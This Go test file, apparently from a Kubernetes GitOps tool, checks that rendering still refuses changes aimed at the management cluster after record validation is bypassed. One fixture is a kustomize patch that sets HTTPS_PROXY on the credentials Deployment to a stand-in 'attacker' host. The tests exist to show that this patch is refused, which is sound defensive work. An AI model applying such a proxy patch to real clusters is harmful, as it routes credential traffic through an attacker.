package cmp

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/spokeforge/spokeforge/cmp/render"
	"github.com/spokeforge/spokeforge/internal/api/v1alpha1"
	"github.com/spokeforge/spokeforge/internal/repo"
	"github.com/spokeforge/spokeforge/internal/validate"
)

var hubTestOptions = render.Options{Image: "ghcr.io/spokeforge/spokeforge:test", ArgoNamespace: "argocd", HubSecretStore: "spokeforge-hub",
	RepoURL: "https://git.example.com/gitops.git", TargetRevision: "HEAD", ESOVersion: "external-secrets.io/v1"}

// TestHubPolicyHoldsWithoutRecordChecks is the second layer of the
// management-cluster rules: validation refuses a record named in-cluster or
// whose server is the hub under another spelling, and should it miss one,
// render still treats the record as landing on the hub. Here the record
// checks are bypassed (the loaded record is changed after validation): the
// record's overlay is refused, as it is for an inCluster record, and with
// that refusal switched off too, the hub policy refuses what the overlay
// changed; the same overlay on the untouched spoke record renders.
func TestHubPolicyHoldsWithoutRecordChecks(t *testing.T) {
	root := filepath.Join(t.TempDir(), "gpu-east-1")
	if err := os.CopyFS(root, os.DirFS(filepath.Join("..", "examples", "gitops", "clusters", "gpu-east-1"))); err != nil {
		t.Fatal(err)
	}
	patch := "apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: spokeforge-credentials, namespace: spokeforge-system}\n" +
		"spec:\n  template:\n    spec:\n      containers:\n      - name: credentials\n        env: [{name: HTTPS_PROXY, value: http://attacker:3128}]\n"
	kust := "apiVersion: kustomize.config.k8s.io/v1beta1\nkind: Kustomization\npatches:\n- path: proxy.yaml\n"
	for name, b := range map[string]string{"kustomization.yaml": kust, "proxy.yaml": patch} {
		if err := os.WriteFile(filepath.Join(root, name), []byte(b), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	for _, skip := range []bool{false, true} {
		for _, tc := range []struct {
			name   string
			tamper func(e *validate.ClusterEntry)
			refuse bool
		}{
			{"a spoke (control)", func(*validate.ClusterEntry) {}, false},
			{"named in-cluster", func(e *validate.ClusterEntry) { e.Cluster.Metadata.Name = validate.InClusterName }, true},
			{"server is the in-cluster URL", func(e *validate.ClusterEntry) {
				e.Cluster.Spec.Connection.Server = "https://kubernetes.default.svc/"
			}, true},
			{"server is kubernetes.default", func(e *validate.ClusterEntry) { e.Cluster.Spec.Connection.Server = "https://kubernetes.default:443" }, true},
		} {
			want := "takes no overlay"
			if skip {
				want = "changes Deployment spokeforge-system/spokeforge-credentials from what spokeforge renders"
			}
			t.Run(tc.name+map[bool]string{false: "", true: " without the overlay refusal"}[skip], func(t *testing.T) {
				skipHubOverlayCheck = skip
				t.Cleanup(func() { skipHubOverlayCheck = false })
				e, errs := repo.LoadCluster(root, "clusters/gpu-east-1")
				if len(errs) > 0 {
					t.Fatal(errs)
				}
				tc.tamper(&e)
				if skip {
					// What the overlay changes is the question here, not
					// the record's own kinds (TestHubKindsHoldWithoutRecordChecks).
					e.Cluster.Spec.Storage, e.Cluster.Spec.GPU = nil, nil
				}
				out, err := renderCluster(e, root, "clusters/gpu-east-1", ModeSpoke, hubTestOptions)
				switch {
				case tc.refuse && err == nil:
					t.Fatalf("rendered %d bytes onto the management cluster with a proxy in spokeforge's pod", len(out))
				case tc.refuse && !strings.Contains(err.Error(), want):
					t.Fatalf("refused for another reason: %v", err)
				case tc.refuse && out != nil:
					t.Fatalf("refusal with output")
				case !tc.refuse && err != nil:
					t.Fatalf("the spoke's overlay was refused: %v", err)
				}
			})
		}
	}
}

// TestHubKindsHoldWithoutRecordChecks: validation refuses spec.storage,
// spec.gpu and spec.workloads on an inCluster record; with those checks
// bypassed, render still refuses the objects they would put on the
// management cluster (a local PersistentVolume on the named device, a
// NodeFeatureRule labelling the hub's nodes, a workload Application there).
func TestHubKindsHoldWithoutRecordChecks(t *testing.T) {
	dir := filepath.Join("..", "examples", "gitops", "clusters", "hub-local")
	for _, tc := range []struct {
		name, mode, want string
		tamper           func(s *v1alpha1.ClusterSpec)
	}{
		{"control", ModeSpoke, "", func(*v1alpha1.ClusterSpec) {}},
		{"control hub", ModeHub, "", func(*v1alpha1.ClusterSpec) {}},
		{"storage devices", ModeSpoke, "renders PersistentVolume hub-local-71904cd7c8, a kind the management cluster takes from no record", func(s *v1alpha1.ClusterSpec) {
			s.Storage = &v1alpha1.Storage{Devices: []v1alpha1.Device{{Node: "hub-node-1", Path: "/dev/sda", Capacity: "1Gi",
				Safety: &v1alpha1.DeviceSafety{Unpartitioned: true, Unmounted: true, NotRaidMember: true, CheckedAt: "2026-01-01T00:00:00Z"}}}}
		}},
		{"gpu nodes", ModeSpoke, "renders NodeFeatureRule spokeforge-gpu, a kind the management cluster takes from no record", func(s *v1alpha1.ClusterSpec) {
			s.GPU = &v1alpha1.GPU{Nodes: []v1alpha1.GPUNode{{Name: "hub-node-1", Product: "NVIDIA-A100", Count: 1}}}
		}},
		{"certificate in cert-manager", ModeSpoke, "renders the Namespace cert-manager, which is a platform namespace", func(s *v1alpha1.ClusterSpec) {
			s.Certificates = append(s.Certificates, v1alpha1.Certificate{Name: "ca", Namespace: "cert-manager", DNSNames: []string{"ca.example.com"}})
		}},
		{"workload in an org namespace", ModeHub, "workload Applications never land there", func(s *v1alpha1.ClusterSpec) {
			s.Org = "acme"
			s.Workloads = []v1alpha1.Workload{{Name: "web", Namespace: "checkout-rc", Path: "workloads/inference"}}
		}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			e, errs := repo.LoadCluster(dir, "clusters/hub-local")
			if len(errs) > 0 {
				t.Fatal(errs)
			}
			tc.tamper(&e.Cluster.Spec)
			out, err := renderCluster(e, dir, "clusters/hub-local", tc.mode, hubTestOptions)
			switch {
			case tc.want == "" && err != nil:
				t.Fatal(err)
			case tc.want != "" && (err == nil || !strings.Contains(err.Error(), tc.want) || out != nil):
				t.Fatalf("got %v (%d bytes), want a refusal containing %q", err, len(out), tc.want)
			}
		})
	}
}
